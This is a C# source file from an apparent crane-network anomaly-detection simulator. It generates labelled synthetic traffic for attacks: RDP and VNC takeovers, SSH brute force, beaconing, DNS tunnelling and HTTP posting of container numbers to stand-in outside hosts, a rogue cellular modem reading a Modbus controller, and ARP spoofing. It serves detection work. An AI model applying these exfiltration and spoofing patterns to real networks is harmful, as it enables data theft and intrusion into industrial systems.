using System.Text;
using CraneAnomaly.Simulator.Quay;
using CraneAnomaly.Simulator.Traffic.Cranes;
using static CraneAnomaly.Simulator.Traffic.Agenda;
using static CraneAnomaly.Simulator.Wire.PacketBuilder;

namespace CraneAnomaly.Simulator.Traffic.Attacks;

/// <summary>What somebody outside does, or is told: sessions, beacons, container numbers, hardware that nobody ordered.</summary>
internal static class SessionAttacks
{
    private const string Family = "remote-session";
    private const long RoundTrip = 38 * Millisecond;
    private const long LongestSession = 900 * Second;

    // An OUI of cellular routers (IEEE registration of Teltonika).
    internal const string ModemMac = "00:1e:42:31:5a:07";

    /// <summary>Somebody outside takes the screen of the management system over RDP ([MS-RDPBCGR] 2.2.1.1).</summary>
    public static void Rdp(AttackScene scene)
    {
        var session = scene.Connection(scene.Outside, scene.Network.Management, 3389);
        var label = scene.Label(Family, "session.new-endpoint", scene.Start, scene.End,
            $"{scene.Outside.Ip} takes an RDP session of {scene.Network.Management.Ip}");
        label(scene.Start, at => RunRdp(session, at, Math.Min(scene.End, at + LongestSession), "service", scene.Noise));
    }

    /// <summary>The same over VNC (RFC 6143, 7).</summary>
    public static void Vnc(AttackScene scene)
    {
        var session = scene.Connection(scene.Outside, scene.Network.Console, 5900);
        var label = scene.Label(Family, "session.new-endpoint", scene.Start, scene.End,
            $"{scene.Outside.Ip} takes a VNC session of {scene.Network.Console.Ip}");
        label(scene.Start, at => RunVnc(session, at, Math.Min(scene.End, at + LongestSession), scene.Noise));
    }

    /// <summary>Passwords are tried over SSH.</summary>
    public static void BruteForce(AttackScene scene)
    {
        var label = scene.Label(Family, "session.brute-force", scene.Start, scene.Start + 90 * Second,
            $"{scene.Outside.Ip} opens 30 SSH connections to {scene.Network.Management.Ip} that end at once");
        for (int i = 0; i < 30; i++)
        {
            var session = scene.Connection(scene.Outside, scene.Network.Management, 22);
            label(scene.Start + i * 3 * Second + scene.Noise.Between(0, Second), at => RunSsh(session, at, scene.Noise));
        }
    }

    /// <summary>The management system calls out every minute, a little late or early.</summary>
    public static void Beacon(AttackScene scene)
    {
        var label = scene.Label(Family, "session.beacon", scene.Start, scene.End,
            $"{scene.Network.Management.Ip} calls {scene.Outside.Ip}:443 about once a minute");
        for (long at = scene.Start; at < scene.End; at += 60 * Second + scene.Noise.Between(-6, 6) * Second)
        {
            var session = scene.Connection(scene.Network.Management, scene.Outside, 443);
            label(at, now => new TlsTalk(session, scene.Noise).Run(now, "telemetry.vendor.example", 1));
        }
    }

    /// <summary>Container numbers leave in names that are asked for.</summary>
    public static void DnsTunnel(AttackScene scene)
    {
        var label = scene.Label("data-exfiltration", "exfiltration.dns", scene.Start, scene.End,
            $"{scene.Network.Management.Ip} asks for long names under one domain that carry container numbers");
        for (long at = scene.Start; at < scene.End; at += scene.Noise.Between(800, 3_000) * Millisecond)
        {
            string question = Base32(string.Concat(Containers(scene.Noise, 3)));
            int id = (int)scene.Noise.Between(0, 0xFFFF), port = scene.Network.NextPort();
            long delay = scene.Noise.Between(20, 60) * Millisecond;
            label(at, now => AskName(scene, now, delay, id, port, question));
        }
    }

    /// <summary>A list of containers goes out over plain HTTP.</summary>
    public static void Containers(AttackScene scene)
    {
        var label = scene.Label("data-exfiltration", "exfiltration.container-ids", scene.Start, scene.End,
            $"{scene.Network.Management.Ip} posts container numbers to {scene.Outside.Ip}:8080");
        scene.Also(Family, "session.new-endpoint", $"{scene.Outside.Ip} was never called before");
        for (long at = scene.Start; at < scene.End; at += scene.Noise.Between(20, 60) * Second)
        {
            var session = scene.Connection(scene.Network.Management, scene.Outside, 8080);
            string body = $"{{\"containers\":[\"{string.Join("\",\"", Containers(scene.Noise, 12))}\"]}}";
            label(at, now =>
            {
                now = session.Open(now, RoundTrip);
                session.Say(now + Millisecond, false, Encoding.ASCII.GetBytes(
                    $"POST /collect HTTP/1.1\r\nHost: {scene.Outside.Ip}:8080\r\nContent-Type: application/json\r\n"
                    + $"Content-Length: {body.Length}\r\n\r\n{body}"));
                session.Say(now += RoundTrip + 5 * Millisecond, true, Encoding.ASCII.GetBytes(
                    "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"));
                session.Close(now + Millisecond, fromServer: true, RoundTrip);
            });
        }
    }

    /// <summary>A cellular router wakes up in the crane, and somebody reads the controller through it.</summary>
    public static void Modem(AttackScene scene)
    {
        var modem = new Host("10.20.0.199", ModemMac, 64, 3_000);
        var session = scene.Connection(modem, scene.Controller, PortNetwork.ModbusPort);
        var client = scene.Client(session);
        var label = scene.Label("rogue-device", "device.modem", scene.Start, scene.End,
            $"{ModemMac}, a cellular router on no list, reads the controller of {scene.CraneId} as {modem.Ip}");
        scene.Also("unusual-command", "command.first-seen", $"{modem.Ip} never commanded anything before");
        label(scene.Start, at => Dhcp(scene, at));
        label(scene.Start + Second, at => scene.Office.Announce(at, modem));
        label(scene.Start + 20 * Second, at => scene.Office.Arp(at, modem, scene.Controller));
        label(scene.Start + 20 * Second + 2 * Millisecond, at => session.Open(at, scene.RoundTrip()));
        int polls = (int)Math.Clamp((scene.End - scene.Start) / (30 * Second), 1, 60);
        for (int i = 1; i <= polls; i++)
        {
            label(scene.Start + i * 30 * Second, at => client.Ask(
                at, Wire.ModbusEncoder.Read(4, 0, RegisterMap.InputRegisters)));
        }
    }

    /// <summary>The laptop says that it is the controller (RFC 826 believes it).</summary>
    public static void ArpSpoof(AttackScene scene)
    {
        var liar = new Host(scene.Controller.Ip, scene.Laptop.Mac, 128, 5_000);
        var label = scene.Label("rogue-device", "device.conflict", scene.Start, scene.End,
            $"{scene.Laptop.Mac} says that it has {scene.Controller.Ip}, the address of {scene.CraneId}");
        for (long at = scene.Start; at < scene.End; at += 2 * Second) label(at, now => scene.Office.Announce(now, liar));
    }

    /// <summary>A session with a permit: the vendor's own person, as announced.</summary>
    public static void PermittedRdp(AttackScene scene, Host from, string person) =>
        scene.At(scene.Start, at => RunRdp(
            scene.Connection(from, scene.Network.Management, 3389), at, Math.Min(scene.End, at + LongestSession), person,
            scene.Noise));

    /// <summary>RFC 4648, 6, in small letters and without padding.</summary>
    internal static string Base32(string ids)
    {
        const string Letters = "abcdefghijklmnopqrstuvwxyz234567";
        var name = new StringBuilder();
        int bits = 0, held = 0;
        foreach (byte b in Encoding.ASCII.GetBytes(ids))
        {
            (bits, held) = (bits << 8 | b, held + 8);
            for (; held >= 5; held -= 5) name.Append(Letters[bits >> (held - 5) & 31]);
        }

        if (held > 0) name.Append(Letters[bits << (5 - held) & 31]);
        return name.ToString();
    }

    internal static IEnumerable<string> Containers(Noise noise, int count)
    {
        for (int i = 0; i < count; i++)
            yield return ContainerIds.Create((int)noise.Between(0, ContainerIds.Lines - 1), (int)noise.Between(100_000, 999_999));
    }

    internal static void RunRdp(TcpSession session, long at, long end, string user, Noise noise)
    {
        byte[] cookie = Encoding.ASCII.GetBytes($"Cookie: mstshash={user}\r\n");
        at = session.Open(at, RoundTrip);
        // TPKT (RFC 1006, 6), X.224 connection request with a cookie and a request for TLS, and its confirmation.
        int x224 = 6 + cookie.Length + 8;
        session.Say(at += Millisecond, false, Join(
            [3, 0], U16(4 + 1 + x224), [(byte)x224, 0xE0, 0, 0, 0, 0, 0], cookie, [1, 0, 8, 0, 3, 0, 0, 0]));
        session.Say(at += RoundTrip, true, [3, 0, 0, 19, 14, 0xD0, 0, 0, 0x12, 0x34, 0, 2, 0x1F, 8, 0, 2, 0, 0, 0]);
        var tls = new TlsTalk(session, noise);
        at = tls.Hello(at, "crane-cms", noise.Bytes(32)) + RoundTrip;
        while (at < end)
        {
            tls.Data(at += noise.Between(80, 900) * Millisecond, false, (int)noise.Between(40, 120));
            tls.Data(at += RoundTrip, true, (int)noise.Between(200, 1_400));
            session.Acknowledge(at += RoundTrip, fromServer: false);
        }

        session.Close(at + Second, fromServer: false, RoundTrip);
    }

    private static void RunVnc(TcpSession session, long at, long end, Noise noise)
    {
        byte[] version = [.. "RFB 003.008\n"u8], name = [.. "HMI QC"u8];
        at = session.Open(at, RoundTrip);
        session.Say(at += Millisecond, true, version);
        session.Say(at += RoundTrip, false, version);
        session.Say(at += RoundTrip, true, [1, 2]);
        session.Say(at += RoundTrip, false, [2]);
        session.Say(at += RoundTrip, true, noise.Bytes(16));
        session.Say(at += RoundTrip, false, noise.Bytes(16));
        session.Say(at += RoundTrip, true, [0, 0, 0, 0]);
        session.Say(at += RoundTrip, false, [1]);
        // Size, pixel format, name.
        session.Say(at += RoundTrip, true, Join(
            U16(1024), U16(768), [32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0], U32((uint)name.Length), name));
        while (at < end)
        {
            // An update is asked for, and comes as one raw rectangle.
            session.Say(
                at += noise.Between(100, 900) * Millisecond, false,
                Join([3, 1], U16(0), U16(0), U16(1024), U16(768)));
            session.Say(
                at += RoundTrip, true,
                Join([0, 0], U16(1), U16(0), U16(0), U16(16), U16(16), U32(0), noise.Bytes(1024)));
            session.Acknowledge(at += RoundTrip, fromServer: false);
        }

        session.Close(at + Second, fromServer: false, RoundTrip);
    }

    private static void RunSsh(TcpSession session, long at, Noise noise)
    {
        // RFC 4253, 4.2; what follows is keys, and a refusal.
        at = session.Open(at, RoundTrip);
        session.Say(at += Millisecond, true, [.. "SSH-2.0-OpenSSH_9.6\r\n"u8]);
        session.Say(at += RoundTrip, false, [.. "SSH-2.0-libssh2_1.11.0\r\n"u8]);
        foreach (int length in (int[])[1072, 48, 16, 44, 60])
        {
            session.Say(at += RoundTrip, false, noise.Bytes(length));
            session.Say(at += RoundTrip, true, noise.Bytes(length == 1072 ? 1080 : 44));
        }

        session.Close(at + RoundTrip, fromServer: true, RoundTrip);
    }

    internal static void AskName(AttackScene scene, long at, long delay, int id, int port, string label)
    {
        // RFC 1035, 4: one TXT question; the answer is that there is no such name.
        byte[] question = Join(
            [(byte)label.Length], Encoding.ASCII.GetBytes(label),
            [1, (byte)'x', 5, .. "cdn77"u8, 7, .. "example"u8, 0], U16(16), U16(1));
        scene.Mirror.Send(at, scene.Network.Management, scene.Network.Names, Udp(
            port, 53, Join(U16(id), U16(0x0100), U16(1), U16(0), U16(0), U16(0), question)));
        scene.Mirror.Send(at + delay, scene.Network.Names, scene.Network.Management, Udp(
            53, port, Join(U16(id), U16(0x8183), U16(1), U16(0), U16(0), U16(0), question)));
    }

    // RFC 2131, 2: a DISCOVER that names its maker.
    private static void Dhcp(AttackScene scene, long at)
    {
        byte[] body = new byte[236];
        (body[0], body[1], body[2]) = (1, 1, 6);
        scene.Noise.Bytes(4).CopyTo(body, 4);
        Mac(ModemMac).CopyTo(body, 28);
        byte[] name = [.. "RUT955"u8];
        byte[] options = Join([99, 130, 83, 99, 53, 1, 1, 12, (byte)name.Length], name, [55, 4, 1, 3, 6, 42, 255]);
        var packet = Udp(68, 67, Join(body, options));
        scene.Mirror.SendFrame(at, Ethernet(Ipv4("0.0.0.0", "255.255.255.255", packet), ModemMac, "ff:ff:ff:ff:ff:ff"));
    }
}
